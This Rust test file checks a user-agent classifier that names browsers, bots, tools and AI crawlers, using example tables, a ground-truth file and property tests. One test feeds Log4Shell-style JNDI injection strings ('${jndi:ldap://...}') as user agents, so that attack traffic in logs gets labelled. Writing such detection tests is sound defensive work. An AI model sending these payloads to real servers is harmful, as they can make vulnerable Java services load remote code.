//! What a family promises, by example and for any text.

use proptest::prelude::*;

use super::*;
use crate::batch::MAX_AGENT_BYTES;

fn name(agent: &str) -> String {
    family(agent).name().to_owned()
}

const WEBKIT: &str = "AppleWebKit/537.36 (KHTML, like Gecko)";

#[test]
fn browsers_are_named_by_their_brand_not_their_engine() {
    let desktop =
        format!("Mozilla/5.0 (Windows NT 10.0; Win64; x64) {WEBKIT} Chrome/141.0.0.0 Safari/537.36");
    let mobile = format!("Mozilla/5.0 (Linux; Android 10; K) {WEBKIT} Chrome/141.0.0.0 Mobile Safari/537.36");
    assert_eq!(name(&desktop), "Chrome");
    assert_eq!(name(&mobile), "Chrome");
    assert_eq!(name(&format!("{desktop} Edg/141.0.0.0")), "Edge");
    assert_eq!(name(&format!("{desktop} OPR/117.0.0.0 (Edition std-2)")), "Opera");
    assert_eq!(name(&format!("{desktop} Vivaldi/7.5")), "Vivaldi");
    assert_eq!(name(&desktop.replace("Chrome/", "HeadlessChrome/")), "Headless Chrome");
    assert_eq!(name(&mobile.replace("Chrome/", "SamsungBrowser/28.0 Chrome/")), "Samsung Browser");
    assert_eq!(name("Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0"), "Firefox");
    assert_eq!(name("Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko"), "Internet Explorer");
    assert_eq!(
        name("Opera/9.80 (Android; Opera Mini/36.2/119; U; id) Presto/2.12 Version/12.16"),
        "Opera Mini"
    );
    assert_eq!(
        name(
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"
        ),
        "Safari"
    );
}

#[test]
fn logs_06_package_managers_attacks_and_percent_coded_agents_are_named() {
    for (agent, want) in [
        ("Ruby, RubyGems/3.3.7 x86_64-linux Ruby/3.1.2 (2022-04-12 patchlevel 20)", "RubyGems"),
        ("bundler/2.3.7 rubygems/3.3.7 ruby/3.1.2 (x86_64-pc-linux-gnu) command/install", "Bundler"),
        ("Ruby", "Ruby"),
        ("${jndi:ldap://192.0.2.9:1389/a}", "jndi:ldap"),
        ("Mozilla/5.0 ${jndi:ldap://example.com/a}", "jndi:ldap"),
        ("curl%2F8.0", "curl"),
        (
            "Mozilla/5.0%20(Windows%20NT%2010.0;%20Win64;%20x64)%20AppleWebKit/537.36%20(KHTML,%20like%20Gecko)%20Chrome/120.0.0.0%20Safari/537.36",
            "Chrome",
        ),
    ] {
        assert_eq!(name(agent), want, "{agent}");
    }
}

#[test]
fn bots_and_tools_are_named_by_themselves() {
    for (agent, expected, class) in [
        ("curl/8.5.0", "curl", Class::Tool),
        ("Wget/1.21.4", "Wget", Class::Tool),
        ("python-requests/2.32.3", "python-requests", Class::Tool),
        ("Go-http-client/2.0", "Go-http-client", Class::Tool),
        ("okhttp/4.12.0", "okhttp", Class::Tool),
        ("Python/3.11 aiohttp/3.9.5", "aiohttp", Class::Tool),
        ("kube-probe/1.29", "kube-probe", Class::Bot),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot", Class::Bot),
        ("Googlebot-Image/1.0", "Googlebot", Class::Bot),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
            "GPTBot",
            Class::Ai,
        ),
        ("Mozilla/5.0 (compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", "ClaudeBot", Class::Ai),
        (
            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
            "facebookexternalhit",
            Class::Bot,
        ),
    ] {
        assert_eq!(name(agent), expected, "{agent}");
        assert_eq!(family(agent).class(), class, "{agent}");
    }
}

#[test]
fn what_no_table_knows_is_named_by_a_rule() {
    let tail = format!("{WEBKIT} Chrome/120.0.0.0");
    for (agent, expected) in [
        ("Quux/1.0 (build 7)".to_owned(), "Quux"),
        ("Quux Reader 3.1 (iPad; iOS 17)".to_owned(), "Quux Reader"),
        ("Quux/1.0 okhttp/4.9".to_owned(), "Quux"),
        ("Mozilla/5.0 (compatible; Quux/2.0; +https://quux.example/)".to_owned(), "Quux"),
        ("Mozilla/5.0 (compatible; Linux x86_64; Quux/2.0; +https://quux.example/)".to_owned(), "Quux"),
        (format!("Mozilla/5.0 (X11; Linux x86_64) {tail} Safari/537.36 QuuxBot/1.0"), "QuuxBot"),
        (
            format!("Mozilla/5.0 (X11; Linux x86_64) {tail} Safari/537.36 (Quux/1; +https://quux.example)"),
            "Quux",
        ),
        (format!("Mozilla/5.0 (X11; Linux x86_64) {tail} Quux/3.2 Safari/537.36"), "Quux"),
        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; Quux/1.0) Chrome/1 Safari/1".to_owned(), "Quux"),
        ("Mozilla/5.0 (Quux)".to_owned(), "Quux"),
        ("Mozilla/5.0 Quux/1.0".to_owned(), "Quux"),
        ("Mozilla/5.0+(compatible;+Quux/2.0;+http://quux.example/)".to_owned(), "Quux"),
        ("Big%20Quux/11 CFNetwork/758.2.8 Darwin/15.0.0".to_owned(), "Big Quux"),
        ("User-Agent: Quux/1.0".to_owned(), "Quux"),
    ] {
        assert_eq!(name(&agent), expected, "{agent}");
    }
}

#[test]
fn nothing_said_is_unknown() {
    for agent in
        ["", "-", "  ", "\"\"", "'-'", "\u{1}", "12345", "1.2.3.4", "()", ";;;", "6f1c9e2ab04d4e8f9a7b", "🦀"]
    {
        assert_eq!(name(agent), UNKNOWN, "{agent:?}");
    }
}

#[test]
fn versions_and_ids_leave_no_trace() {
    assert_eq!(name("Quux/1.0 (id 69a214b6-5a7b-43e5-89d8-e8f4a9946f3e)"), "Quux");
    assert_eq!(name("Quux-20240131.7"), "Quux");
    assert_eq!(name("Quux_v2.6.3 run 77"), "Quux");
    assert_eq!(name("Quux 550e8400e29b41d4a716446655440000"), "Quux");
}

#[test]
fn nothing_beyond_the_limit_is_looked_at() {
    let long = format!("Quux/1.0 ({}", "a; ".repeat(400));
    assert_eq!(family(&format!("{long} Googlebot/2.1")), family(&long));
    // A letter of several bytes across the limit.
    let across = format!("Quux/1.0 {}é Googlebot", "x".repeat(MAX_AGENT_BYTES - 10));
    assert_eq!(name(&across), "Quux");
}

#[test]
fn the_class_of_an_unknown_name_follows_from_the_evidence() {
    let desk = format!("(Windows NT 10.0; Win64; x64) {WEBKIT}");
    let chrome = format!("Mozilla/5.0 {desk} Chrome/141.0.0.0 Safari/537.36");
    for (agent, class) in [
        // The words of the name.
        ("Quuxbot/1.0 (iPhone; iOS 18)".to_owned(), Class::Bot),
        ("quux-llm/1.0".to_owned(), Class::Ai),
        ("QuuxUptime/1.0".to_owned(), Class::Bot),
        ("QuuxHttpClient/1.0".to_owned(), Class::Tool),
        // Where the name stands.
        ("Mozilla/5.0 (compatible; Quux/2.0)".to_owned(), Class::Bot),
        ("Mozilla/5.0 (compatible; QuuxHttp/2.0)".to_owned(), Class::Tool),
        (format!("{chrome} (Quux)"), Class::Bot),
        (format!("{chrome} Quux"), Class::Bot),
        (format!("{chrome}; Quux/1.0"), Class::Bot),
        (format!("Quux/1.0 {chrome}"), Class::Bot),
        (chrome.replace("x64)", "x64; Quux)"), Class::Bot),
        (chrome.replace("like Gecko)", "like Gecko, Quux)"), Class::Bot),
        (chrome.replace("Safari/", "Quux/3.1 Safari/"), Class::App),
        // A contact address, a bot word, a monitor's word elsewhere.
        ("Quux/1.0 (+https://quux.example)".to_owned(), Class::Bot),
        ("Quux/1.0 (quux@quux.example)".to_owned(), Class::Bot),
        ("Quux/1.0 (the Quux crawler)".to_owned(), Class::Bot),
        ("Quux/1.0 (uptime monitoring)".to_owned(), Class::Bot),
        ("Quux/1.0 QuuxMetadataFetch/2.0".to_owned(), Class::Bot),
        (format!("{chrome} Quux/Synthetics"), Class::Bot),
        // A telephone that a crawler claims to be.
        ("DoCoMo/2.0 P900i(c100;TB) (compatible; Quux/mobile)".to_owned(), Class::Bot),
        // A device of a person, against a program.
        ("Quux/1.0 (Linux; Android 15; Pixel 9)".to_owned(), Class::App),
        ("Quux Monitor/1.0 (iPhone; iOS 18.1)".to_owned(), Class::App),
        ("Quux/1.0 (Windows NT 10.0; Win64; x64)".to_owned(), Class::App),
        ("Quux/1.0 CFNetwork/1494.0.7 Darwin/23.4.0".to_owned(), Class::App),
        ("Quux/1.0 (linux/amd64)".to_owned(), Class::Tool),
        ("Quux/1.0 Go/1.22".to_owned(), Class::Tool),
        ("Quux/1.0 quux-http-client/2.0".to_owned(), Class::Tool),
        ("Quux/1.0 (Linux)".to_owned(), Class::Tool),
        ("Quux/1.0 (C++/QuuxHttpClient)".to_owned(), Class::Tool),
        ("quux.rb 8.0".to_owned(), Class::Tool),
        // Nothing but a name.
        ("Quux/1.2-SNAPSHOT".to_owned(), Class::Tool),
        ("Quux Site/1.2.3".to_owned(), Class::Bot),
        ("quux/7".to_owned(), Class::Tool),
        ("quux-fetch/1.2".to_owned(), Class::Tool),
        ("Quux/7".to_owned(), Class::Bot),
        ("Quux/1.2.3".to_owned(), Class::Tool),
        ("Quux/1.2".to_owned(), Class::Bot),
        ("Quux".to_owned(), Class::Bot),
        ("QuuxPodcasts/1.2".to_owned(), Class::App),
        ("Mozilla/5.0 Quux/1.2".to_owned(), Class::Bot),
    ] {
        assert_eq!(family(&agent).class(), class, "{agent}");
    }
}

#[test]
fn devices_of_people_are_no_robots() {
    let mobile = format!("{WEBKIT} Chrome/120.0.0.0 Mobile Safari/537.36");
    for (agent, expected) in [
        // Models with a bot's name.
        (format!("Mozilla/5.0 (Linux; Android 14; Quux bot 7 Build/UP1A) {mobile}"), "Chrome"),
        (format!("Mozilla/5.0 (Linux; Android 8.0.0; Expanse) {mobile}"), "Chrome"),
        (format!("Mozilla/5.0 (Linux; Android 8.1.0; K6) {mobile}"), "Chrome"),
        (
            format!(
                "Mozilla/5.0 (Windows NT 10.0; ARM; Lumia 950 XL) {WEBKIT} Chrome/46 Safari/537.36 Edge/14.1"
            ),
            "Edge",
        ),
        // Televisions.
        (
            format!(
                "Mozilla/5.0 (Web0S; Linux/SmartTV) {WEBKIT} Chr0me/87.0 Safari/537.36 LG Browser/8.00.00(LGE; 55X; 04; 1); \
                 webOS.TV-2022; LG NetCast.TV-2013 Compatible (LGE, 55X)"
            ),
            "LG Browser",
        ),
        ("Opera/9.80 (X11; Linux armv7i; NETRANGEMMH; HbbTV/1.1.1; Vendor/QUUX; en)".to_owned(), "Opera"),
        // Applications with an address or a library's word.
        ("QuuxCast/1.0 Android https://quux.example".to_owned(), "QuuxCast"),
        ("QuuxMobileClient/111 CFNetwork/1465.2 Darwin/23.0.0".to_owned(), "QuuxMobileClient"),
        // Before others claimed to be compatible.
        ("Mozilla/4.04 [en] (X11; I; IRIX 5.3 IP22)".to_owned(), "Netscape"),
    ] {
        let found = family(&agent);
        assert_eq!(found.name(), expected, "{agent}");
        assert!(found.class().is_for_people(), "{agent}: {}", found.class());
    }
}

#[test]
fn a_browser_with_an_address_behind_its_platform_is_a_bot() {
    let tail = format!("{WEBKIT} Chrome/120.0.0.0 Safari/537.36");
    for agent in [
        format!("Mozilla/5.0 (X11; Linux x86_64) {tail} http://quux.example/monitoring"),
        format!("Mozilla/5.0 (X11; Linux x86_64) {tail} (https://quux.example/)"),
        format!("Mozilla/5.0 (Windows NT 10.0) {tail} Edg/120.0 (quux.com/scan)"),
        format!("Mozilla/5.0 (Quux) {WEBKIT}"),
        "https://quux.example/".to_owned(),
        "quux@quux.example".to_owned(),
    ] {
        assert_eq!(family(&agent).class(), Class::Bot, "{agent}");
    }
}

#[test]
fn a_known_application_with_a_contact_address_is_a_bot() {
    for (agent, class) in [
        ("Pinterest/0.2 (+https://www.pinterest.com/bot.html)", Class::Bot),
        ("Notion/1.0 (https://notion.so; team@makenotion.com)", Class::Bot),
        ("Overcast/3.0 (+http://overcast.fm/; iOS podcast app)", Class::App),
        ("Spotify/8.9.42 Android/33 (Pixel 7)", Class::App),
    ] {
        assert_eq!(family(agent).class(), class, "{agent}");
    }
}

#[test]
fn invisible_characters_never_reach_a_name() {
    for (agent, expected) in [
        ("Quu\u{200b}x/1.0", "Quux"),
        ("\u{202e}Quux\u{2069}", "Quux"),
        ("Quux\u{feff}Reader\u{85}/1.0", "QuuxReader"),
        ("Quu%E2%80%8Bx/1.0", "Quux"),
        ("Mozilla/5.0 (compatible; Qu\u{ad}ux/1.0)", "Quux"),
        ("\u{200b}\u{200b}", UNKNOWN),
    ] {
        assert_eq!(name(agent), expected, "{agent:?}");
    }
}

#[test]
fn names_tell_the_class_where_the_agent_is_gone() {
    for (family, class) in [
        ("Chrome", Class::Browser),
        ("chrome", Class::Browser),
        ("Samsung Browser", Class::Mobile),
        ("Googlebot", Class::Bot),
        ("SomethingNewBot", Class::Bot),
        ("Acme Uptime Monitor", Class::Bot),
        ("GPTBot", Class::Ai),
        ("acme-llm-fetcher", Class::Ai),
        ("acme-http-client", Class::Tool),
        ("aws-sdk-zig", Class::Tool),
        ("Facebook App", Class::App),
        ("Quux", Class::App),
        (UNKNOWN, Class::Tool),
        ("aws-sdk-quux", Class::Tool),
        ("Quux Feed", Class::Bot),
        ("(other)", Class::App),
        ("", Class::App),
    ] {
        assert_eq!(class_of(family), class, "{family}");
    }
    for class in Class::ALL {
        assert_eq!(Class::from_name(class.as_str()), Some(class));
    }
}

#[test]
fn a_telephone_behind_a_space_leaves_no_space() {
    assert_eq!(family("(bot -Android;x)").name(), "bot");
}

/// What holds for every agent.
fn promises(agent: &str) {
    let found = family(agent);
    let name = found.name();
    assert!(!name.is_empty() && name.len() <= MAX_FAMILY_BYTES, "{agent:?} → {name:?}");
    assert!(!name.starts_with('(') && !name.contains(char::is_control), "{agent:?} → {name:?}");
    assert_eq!(name, name.trim(), "{agent:?}");
    assert!(!name.contains(clean::is_invisible), "{agent:?} → {name:?}");
    // The table's class stands, unless an application's maker asks.
    if let Some((_, class)) = table::known_family(name).filter(|_| name != UNKNOWN) {
        assert!(found.class() == class || found.class() == Class::Bot, "{agent:?} → {name:?}");
    }
    // The whole agent comes back only if it is nothing but a name.
    if name == agent {
        assert!(!name.contains(['/', '(', ')', ';', ',', '"']), "{agent:?}");
    }
    for _ in 0..2 {
        let cached = with_cache(|cache| cache.get(agent));
        assert_eq!((cached.name(), cached.class()), (name, found.class()), "{agent:?}");
    }
}

const TRUTH: &str = include_str!("../../../data/agents/ua_truth_public.tsv");

fn truth() -> impl Iterator<Item = &'static str> {
    TRUTH.lines().filter_map(|line| line.split('\t').next())
}

#[test]
fn promises_hold_for_every_agent_of_the_truth() {
    truth().for_each(promises);
}

#[test]
fn the_truth_has_far_fewer_families_than_agents() {
    let families: std::collections::HashSet<Family> = truth().map(family).collect();
    // Nearly half of it are bots that appear once.
    assert!(families.len() < 1_800, "{}", families.len());
    assert!(families.contains("Chrome"));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn promises_hold_for_any_text(agent in "\\PC{0,200}") {
        promises(&agent);
    }

    #[test]
    fn promises_hold_for_any_bytes_read_as_text(bytes in proptest::collection::vec(any::<u8>(), 0..1_200)) {
        promises(&String::from_utf8_lossy(&bytes));
    }

    #[test]
    fn promises_hold_for_text_made_of_what_agents_are_made_of(
        parts in proptest::collection::vec(prop_oneof![
            Just("Mozilla/5.0"), Just("("), Just(")"), Just(";"), Just("compatible"), Just("like Gecko"), Just("AppleWebKit/5"),
            Just("Chrome/1"), Just("Android"), Just("/"), Just("+http://a.b"), Just("a@b.c"), Just(" "), Just("bot"),
            Just("Opera Mini"), Just("v1.2"), Just("é"), Just("%20"), Just("+"), Just("MSIE 6.0"), Just("Firefox/"),
            Just("DoCoMo/2.0"), Just("iPhone"), Just("["), Just("-"), Just("User-Agent:"), Just("Trident/"), Just("\u{0}"), Just("\u{200b}"), Just("%2520"), Just("%E2%80%8F"), Just("-v3"),
        ], 0..40),
        glue in prop_oneof![Just(""), Just(" ")],
    ) {
        promises(&parts.join(glue));
    }

    #[test]
    fn promises_hold_for_mutated_agents(
        index in any::<proptest::sample::Index>(),
        at in any::<proptest::sample::Index>(),
        len in 0usize..40,
        put in "\\PC{0,12}",
    ) {
        let agents: Vec<&str> = truth().collect();
        let agent: Vec<char> = index.get(&agents).chars().collect();
        let start = at.index(agent.len());
        let end = (start + len).min(agent.len());
        let mutated: String = agent[..start].iter().copied().chain(put.chars()).chain(agent[end..].iter().copied()).collect();
        promises(&mutated);
    }
}
